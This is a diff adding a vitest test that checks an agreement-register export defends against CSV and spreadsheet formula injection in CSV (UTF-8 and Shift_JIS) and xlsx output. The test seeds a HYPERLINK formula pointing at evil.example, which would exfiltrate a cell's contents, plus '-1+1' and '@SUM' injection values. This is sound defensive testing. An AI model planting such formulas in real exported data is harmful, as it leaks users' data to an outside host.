@@ -4,6 +4,7 @@ import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { testDrivers } from "~/test/database";
 import { startTestApp, type TestApp } from "~/test/harness";
 import { createMember, createOrganization } from "~/test/factories";
+import { readTabular } from "~/lib/tabular.server";
 import * as agreementsApi from "./agreements";
 import * as exportRoute from "./agreements-export";
 
@@ -65,5 +66,35 @@ describe.each(drivers)("agreement register export on %s", (kind) => {
     const text = Buffer.from(await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv", token: other.token })).arrayBuffer()).toString("utf8");
     expect(text).not.toContain("髙橋");
     expect((await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.csv" })).status).toBe(401);
+  });
+
+  it("neutralises formula cells in the CSV, writes them as plain text in the xlsx, and reads the CSV back unchanged", async () => {
+    const desk = await createMember(app.runtime, { role: "desk_admin" });
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
+    const partner = await createOrganization(app.runtime.db, { kind: "company", name: evil });
+    const title = "-1+1 協定";
+    const res = await app.call(agreementsApi.action, {
+      path: "/api/v1/agreements",
+      method: "POST",
+      token: desk.token,
+      json: { title, method: "project", partnerIds: [partner.id], purpose: "@SUM(A1:A9)", items: [{ title: "項目", field: "health" }] },
+    });
+    expect(res.status).toBe(201);
+    for (const encoding of ["utf-8", "shift_jis"]) {
+      const bytes = Buffer.from(await (await app.call(exportRoute.loader, { path: `/api/v1/agreements/export.csv?encoding=${encoding}`, token: desk.token })).arrayBuffer());
+      const text = encoding === "shift_jis" ? iconv.decode(bytes, "cp932") : bytes.toString("utf8");
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"`);
+      expect(text).toContain("'-1+1 協定");
+      expect(text).toContain("'@SUM(A1:A9)");
+      // What the register import reads: the quote is gone again.
+      const read = await readTabular(bytes, "export.csv");
+      expect(read.rows[0]).toEqual(expect.arrayContaining([evil, title, "@SUM(A1:A9)"]));
+    }
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await (await app.call(exportRoute.loader, { path: "/api/v1/agreements/export.xlsx", token: desk.token })).arrayBuffer());
+    const sheet = workbook.worksheets[0]!;
+    const cells = (sheet.getRow(2).values as unknown[]).slice(1);
+    expect(cells).toContain(evil);
+    sheet.getRow(2).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
   });
 });
